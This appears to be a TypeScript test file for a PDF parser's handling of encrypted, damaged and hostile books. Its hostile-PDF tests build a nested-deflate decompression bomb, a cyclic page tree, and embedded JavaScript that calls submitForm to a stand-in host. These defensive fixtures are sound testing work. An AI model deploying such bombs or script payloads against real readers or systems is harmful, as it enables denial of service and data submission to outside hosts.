import { once } from 'node:events';
import { constants, createDeflate, deflateSync } from 'node:zlib';
import { buildPdf, pageObjectNumber } from '@lectern/sample-books';
import { afterAll, describe, expect, it } from 'vitest';
import { ParserPool } from '../parser-pool.ts';
import { readBookBytes, withTempFile } from '../testing.ts';

const pool = new ParserPool({ size: 1 });
afterAll(() => pool.close());
const readInPool = (bytes: Uint8Array) => withTempFile(bytes, (path) => pool.read({ path, format: 'pdf' }));

/** 512 MB of spaces in a few hundred bytes. */
const buildBomb = async (): Promise<Buffer> => {
  const deflate = createDeflate({ level: constants.Z_BEST_SPEED });
  const chunks: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => chunks.push(chunk));
  const spaces = Buffer.alloc(16 * 1024 ** 2, ' ');
  for (let count = 0; count < 32; count += 1) {
    if (!deflate.write(spaces)) await once(deflate, 'drain');
  }
  deflate.end();
  await once(deflate, 'end');
  return deflateSync(Buffer.concat(chunks));
};

describe('a PDF under protection', () => {
  it('[FMT-33] that needs a password has neither metadata nor contents', async () => {
    const encrypt = `<< /Filter /Standard /V 1 /R 2 /P -4 /O <${'ab'.repeat(32)}> /U <${'cd'.repeat(32)}> >>`;
    const facts = await readBookBytes(buildPdf({ encrypt, info: { Title: '(x)' } }), { format: 'pdf' });
    expect(facts).toMatchObject({
      format: 'pdf',
      contents: null,
      cover: null,
      metadata: { title: null, isDrm: false },
    });
  });

  it.each(['EBX_HANDLER', 'Adobe.APS', 'FOPN_foweb'])('[FMT-33] of the handler %s is DRM', async (handler) => {
    const facts = await readBookBytes(buildPdf({ encrypt: `<< /Filter /${handler} /V 4 >>` }), { format: 'pdf' });
    expect(facts).toMatchObject({ contents: null, metadata: { title: null, isDrm: true } });
  });

  it('[FMT-33] that only mentions a handler is not DRM', async () => {
    const facts = await readBookBytes(buildPdf({ info: { Title: '(/Filter /EBX_HANDLER)' } }), { format: 'pdf' });
    expect(facts.metadata).toMatchObject({ title: '/Filter /EBX_HANDLER', isDrm: false });
  });
});

describe('a broken PDF', () => {
  it('[FMT-34] whose page tree is lost has the page count of its linearisation', async () => {
    const head = '%PDF-1.4\n9 0 obj\n<</Linearized 1/L 400/O 11/E 300/N 12/T 380/H [ 20 30]>>\nendobj\n';
    const torn = Buffer.concat([Buffer.from(head), Buffer.alloc(2000)]);
    expect(await readBookBytes(torn, { format: 'pdf' })).toMatchObject({ contents: { pages: 12 }, cover: null });
  });

  it('[FMT-34] without a page tree is unreadable', async () => {
    for (const bytes of [Buffer.from('%PDF-1.7'), Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(5000)])]) {
      await expect(readBookBytes(bytes, { format: 'pdf' })).rejects.toMatchObject({ reason: 'damaged' });
    }
  });

  it('[FMT-34] without a cross-reference table is repaired', async () => {
    const whole = buildPdf({ pages: 2, info: { Title: '(A walk)' } }).toString('latin1');
    const [objects = '', table = ''] = whole.split('xref\n0 1');
    const torn = `${objects}${table.slice(table.indexOf('trailer'))}`;
    const facts = await readBookBytes(Buffer.from(torn, 'latin1'), { format: 'pdf' });
    expect(facts).toMatchObject({ metadata: { title: 'A walk' }, contents: { pages: 2 } });
  });
});

describe('a hostile PDF', () => {
  it('[FMT-35] whose page tree is a cycle is read without a cover', async () => {
    const objects = { [pageObjectNumber(0)]: '<< /Type /Pages /Count 1 /Kids [2 0 R] /Parent 2 0 R >>' };
    const ring = buildPdf({ pages: 0, objects })
      .toString('latin1')
      .replace('/Count 0 /Kids []', '/Count 1 /Kids [1000 0 R]');
    const facts = await readInPool(Buffer.from(ring, 'latin1'));
    expect(facts).toMatchObject({ contents: { pages: 1 }, cover: null });
  });

  it('[FMT-27] whose first page exceeds the limits is read without a cover, and the next book is read', async () => {
    const content = await buildBomb();
    const filters = '/Filter [/FlateDecode /FlateDecode]';
    const facts = await readInPool(buildPdf({ content, filters, info: { Title: '(A walk)' } }));
    expect(facts).toMatchObject({ metadata: { title: 'A walk' }, contents: { pages: 1 }, cover: null });
    expect((await readInPool(buildPdf())).cover).not.toBeNull();
  });

  it('[FMT-35] runs no script, opens nothing and submits nothing', async () => {
    const script = '/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://canary.invalid/"\\))';
    const facts = await readInPool(
      buildPdf({
        catalog: `/OpenAction << ${script} >> /AA << /WC << ${script} >> >> /Names << /JavaScript << /Names [(a) << ${script} >>] >> >>`,
      }),
    );
    expect(facts.cover).not.toBeNull();
  });
});
